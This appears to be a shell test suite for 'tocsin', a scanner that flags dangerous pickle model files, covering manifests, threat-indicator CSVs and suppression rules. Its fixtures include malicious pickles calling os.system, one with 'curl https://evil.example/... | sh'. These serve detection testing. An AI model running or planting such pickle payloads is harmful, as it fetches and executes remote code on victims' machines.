# The lists that a scan can be given: files, what is known, what is accepted.
program_scan() { tocsin scan models "$@"; }
printf '\x80\x02}.' >good.pkl
printf "cos\nsystem\n(S'id'\ntR." >evil.pkl
printf "cos\nsystem\n(S'curl https://evil.example/a-longer-command | sh'\ntR." >again.pkl
printf "cmy.own\nthing\n(S'id'\ntR." >own.pkl

# --- a list of files
sha256sum good.pkl own.pkl >SHA256SUMS
program_scan --from-manifest SHA256SUMS --fail-on malicious
expect 0
says "2 files"
printf 'good.pkl\nevil.pkl\n' >list
program_scan --from-manifest list
expect 1
says "os.system"
printf '\x80\x02].' >good.pkl
program_scan --from-manifest SHA256SUMS --fail-on malicious
expect 0
program_scan --from-manifest SHA256SUMS
expect 1
says "digest-mismatch"
says "SHA256SUMS:1"
printf 'good.pkl\nnowhere/gone.pkl\n' | "$program" scan models --from-manifest - >.out 2>.err
code=$?
expect 3
says "nowhere/gone.pkl"
printf 'good.pkl\0own.pkl\0' | "$program" scan models --from-manifest - --fail-on malicious >.out 2>.err
code=$?
expect 0
says "2 files"
printf 'd41d8cd98f00b204e9800998ecf8427e  good.pkl\ngood.pkl\n' >md5
program_scan --from-manifest md5
expect 3
says "md5:1: a digest that is no SHA-256"
program_scan --from-manifest nowhere
expect 3
complains "nowhere"
program_scan --from-manifest SHA256SUMS --no-hash
expect 2

# --- what is known: from a scan to an indicator
program_scan evil.pkl --hashes
expect 1
file=$(sed -n 's/^  sha256 *//p' .out | head -1)
shape=$(sed -n 's/^    opcodes *//p' .out | head -1)
[ "$file" = "$(sha256sum evil.pkl | cut -d' ' -f1)" ] || fail "another digest"
printf 'type,value,name,severity,reference\nopcodes,%s,"the gang, second wave",malicious,https://example.org/report\nmd5,x,y,,\n' "$shape" >known.csv
program_scan again.pkl --indicators known.csv
expect 1
says "known-malicious"
says "the gang, second wave"
says "https://example.org/report"
program_scan again.pkl --indicators known.csv --as json
says '"https://example.org/report"'
printf 'type,value,name\nsha256,nonsense,a\nsha256,%s,b\n' "$(sha256sum good.pkl | cut -d' ' -f1)" >known.csv
program_scan good.pkl --indicators known.csv
expect 1
says "known.csv:2"
program_scan own.pkl --fail-on malicious --indicators known.csv
expect 3
program_scan good.pkl --indicators nowhere.csv
expect 3
complains "nowhere.csv"
program_scan good.pkl --indicators good.pkl
expect 3
program_scan good.pkl --indicators known.csv --no-hash
expect 2

# --- what is accepted: only by a file that is named, never by one that lies there
mkdir models
cp own.pkl evil.pkl models/
cat >models/tocsin.toml <<'T'
[[suppression]]
rule = "pickle-unknown-call"
path = "*.pkl"
reason = "ours, looked at"
expires = 2027-03-31
[[suppression]]
rule = "pickle-dangerous-call"
path = "**"
reason = "trust me"
expires = 2027-03-31
T
cp models/tocsin.toml .
export TOCSIN_NOW=2026-11-24T00:00:00Z
program_scan models
expect 1
says_not "suppressed"
(cd models && "$program" scan models own.pkl >../.out 2>../.err)
code=$?
expect 1
says_not "suppressed"
program_scan models/own.pkl --config models/tocsin.toml
expect 0
says "suppressed"
says "ours, looked at, until 2027-03-31 (models/tocsin.toml:1)"
says "matches nothing"
program_scan models --config models/tocsin.toml
expect 1
says "os.system"
says "needs the sha256"
program_scan own.pkl --config models/tocsin.toml
expect 1
export TOCSIN_NOW=2027-04-01T00:00:00Z
program_scan models/own.pkl --config models/tocsin.toml
expect 1
says "expired on 2027-03-31"
# Each name in the JSON has its word in docs/json.md.
program_scan models cut.pkl --config models/tocsin.toml --as json
for key in $(grep -oE '"[a-z_0-9]+": ?' .out | tr -d '": ' | sort -u); do
  grep -qwF -- "$key" "$source_dir/docs/json.md" || fail "no word about the key '$key'"
done
printf '[[suppression]]\nrule = "pickle-broken"\n' >bad.toml
program_scan good.pkl --config bad.toml
expect 3
says "bad.toml:1"
printf 'not toml' >bad.toml
program_scan good.pkl --config bad.toml
expect 3
complains "bad.toml:1"

# --- the examples of docs/scan.md, as they are written
mkdir -p shown/models && cp good.pkl shown/models/ && cd shown || exit 1
tocsin() { "$program" "$@"; }
tocsin-scan() { "$(dirname "$program")/tocsin-scan" "$@"; }
sed -n 's/^      \(sha256sum\|tocsin\|find\) /\1 /p' "$source_dir/docs/scan.md" >examples
[ "$(wc -l <examples)" -eq 3 ] || fail "docs/scan.md has other examples"
while IFS= read -r example; do
  (eval "$example") >.out 2>.err </dev/null
  code=$?
  expect 0
done <examples
